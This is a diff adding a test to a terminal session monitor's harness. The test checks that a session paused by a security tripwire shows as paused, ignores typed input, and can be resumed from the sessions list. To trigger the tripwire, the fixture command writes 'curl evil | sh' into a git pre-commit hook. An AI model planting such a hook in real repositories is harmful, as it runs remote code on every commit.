@@ -212,3 +212,33 @@ async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env
         with d.operator() as op:
             op.call("sessions.signal", {"session": sid, "signal": "CONT"})
         cleanup(d, sid)
+
+
+async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, clock):
+    """Issue 15, finding 12: keep paused is no dead end, and a paused pane is not a live one."""
+    from tui_sessions_harness import open_pane, show_sessions
+
+    d, ws = env
+    t = uuid.uuid4().hex[:8]
+    app = make_app(d, clock)
+    async with app.run_test(size=SIZE) as pilot:
+        await until(pilot, lambda: app.watch_monitor.loaded)
+        sid, pid = start(d, ws, "sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t))
+        try:
+            await tripwire_item(pilot, app, sid)
+            assert wait_for(lambda: stopped(pid))
+            pane = await open_pane(pilot, app, sid)
+            await until(pilot, lambda: pane.paused)
+            await until(pilot, lambda: "PAUSED by tripwire" in screen_text(app))
+            sent = pane.link.offset
+            pane.focus()
+            await pilot.press("x")
+            assert pane.link._outbox == b"" and pane.link.offset == sent  # nothing typed through
+            screen = await show_sessions(pilot, app)
+            await until(pilot, lambda: screen.view.select_session(sid))
+            screen.view.focus()
+            await pilot.press("R")
+            assert wait_for(lambda: not stopped(pid))
+            await until(pilot, lambda: not pane.paused)
+        finally:
+            cleanup(d, sid)
